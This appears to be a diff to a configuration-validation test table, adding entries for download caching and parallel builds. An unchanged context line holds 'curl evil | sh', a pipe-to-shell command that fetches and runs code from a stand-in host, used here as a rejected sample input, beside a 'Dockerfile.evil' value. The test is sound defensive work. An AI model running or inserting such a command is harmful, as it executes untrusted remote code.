@@ -78,6 +78,8 @@ TABLE: dict[str, Row] = {
     "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
     "environment.network_during_setup": Row(True, 2, None, False),
+    "environment.download_cache": Row(True, "maybe", None, False),
+    "environment.parallel_builds": Row(2, 0, 16, 1),
     "environment.auto": Row(True, "sometimes", None, False),
     "environment.timeout_s": Row(1800.0, 0, 90000.0, 60.0),
     "environment.build_timeout_s": Row(3600.0, 0, 90000.0, 600.0),
